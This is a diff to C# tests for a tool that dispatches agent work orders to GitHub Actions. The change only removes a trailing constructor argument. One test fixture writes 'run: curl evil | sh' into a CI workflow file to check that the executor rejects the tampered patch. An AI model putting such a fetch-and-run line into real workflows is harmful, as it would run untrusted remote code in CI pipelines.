@@ -27,7 +27,7 @@ public sealed class GitHubActionsExecutorTests : IDisposable
         var api = new CannedActions(order, baseSha, patch);
         var executor = new GitHubActionsExecutor(Client(api), "autoship-agent.yml", repo, TimeProvider.System);
 
-        var ticket = await executor.DispatchAsync(new JobSpec(order, "version: 1\n", baseSha, repo, root, null) { Ref = "main" }, CancellationToken.None);
+        var ticket = await executor.DispatchAsync(new JobSpec(order, "version: 1\n", baseSha, repo, root) { Ref = "main" }, CancellationToken.None);
         api.Dispatched.ShouldBe(1);
         api.DispatchBody.ShouldContain("\"order\":\"" + ticket.Id + "\"");
         api.DispatchBody.ShouldNotContain(root, Case.Sensitive, "no local path of the orchestrator leaves the machine");
@@ -42,7 +42,7 @@ public sealed class GitHubActionsExecutorTests : IDisposable
         (await GitCli.RunAsync(repo, "rev-parse", sha + "^")).Trim().ShouldBe(baseSha);
 
         // Dispatching the same work order again finds the run instead of starting a second one.
-        await executor.DispatchAsync(new JobSpec(order, "version: 1\n", baseSha, repo, root, null), CancellationToken.None);
+        await executor.DispatchAsync(new JobSpec(order, "version: 1\n", baseSha, repo, root), CancellationToken.None);
         api.Dispatched.ShouldBe(1);
     }
 
@@ -54,7 +54,7 @@ public sealed class GitHubActionsExecutorTests : IDisposable
         var patch = await PatchAsync(repo, baseSha, ".github/workflows/ci.yml", "run: curl evil | sh\n");
         var api = new CannedActions(order, baseSha, patch) { Completed = true };
         var executor = new GitHubActionsExecutor(Client(api), "autoship-agent.yml", repo, TimeProvider.System);
-        var ticket = await executor.DispatchAsync(new JobSpec(order, "version: 1\n", baseSha, repo, root, null), CancellationToken.None);
+        var ticket = await executor.DispatchAsync(new JobSpec(order, "version: 1\n", baseSha, repo, root), CancellationToken.None);
 
         var status = await executor.PollAsync(ticket, CancellationToken.None);
         status.State.ShouldBe(JobState.Lost);
@@ -70,7 +70,7 @@ public sealed class GitHubActionsExecutorTests : IDisposable
         var patch = await PatchAsync(repo, baseSha, "docs/guide.md", "new line\n");
         var api = new CannedActions(order, baseSha, patch, [new ChangedFile("docs/guide.md", 2, 0)]) { Completed = true };
         var executor = new GitHubActionsExecutor(Client(api), "autoship-agent.yml", repo, TimeProvider.System);
-        var ticket = await executor.DispatchAsync(new JobSpec(order, "version: 1\n", baseSha, repo, root, null), CancellationToken.None);
+        var ticket = await executor.DispatchAsync(new JobSpec(order, "version: 1\n", baseSha, repo, root), CancellationToken.None);
 
         var status = await executor.PollAsync(ticket, CancellationToken.None);
         status.State.ShouldBe(JobState.Lost);
@@ -86,7 +86,7 @@ public sealed class GitHubActionsExecutorTests : IDisposable
         var patch = await PatchAsync(repo, baseSha, "docs/guide.md", "new line\n");
         var api = new CannedActions(order, baseSha, patch, [new ChangedFile("docs/other.md", 1, 0)]) { Completed = true };
         var executor = new GitHubActionsExecutor(Client(api), "autoship-agent.yml", repo, TimeProvider.System);
-        var ticket = await executor.DispatchAsync(new JobSpec(order, "version: 1\n", baseSha, repo, root, null), CancellationToken.None);
+        var ticket = await executor.DispatchAsync(new JobSpec(order, "version: 1\n", baseSha, repo, root), CancellationToken.None);
 
         var status = await executor.PollAsync(ticket, CancellationToken.None);
         status.State.ShouldBe(JobState.Lost);
@@ -116,7 +116,7 @@ public sealed class GitHubActionsExecutorTests : IDisposable
 
         var api = new CannedActions(order, baseSha, patch, [new ChangedFile("docs/guide.md", changed ? 2 : 1, 0)]) { Completed = true };
         var executor = new GitHubActionsExecutor(Client(api), "autoship-agent.yml", repo, TimeProvider.System);
-        var spec = new JobSpec(order, "version: 1\n", baseSha, repo, root, null) { AuthorContext = new AuthorContext([]) { PullRequest = 3, ContinueFrom = head } };
+        var spec = new JobSpec(order, "version: 1\n", baseSha, repo, root) { AuthorContext = new AuthorContext([]) { PullRequest = 3, ContinueFrom = head } };
 
         var ticket = await executor.DispatchAsync(spec, CancellationToken.None);
         api.DispatchBody.ShouldContain("\"head\":\"" + head + "\"", customMessage: "the workflow checks out the PR head");
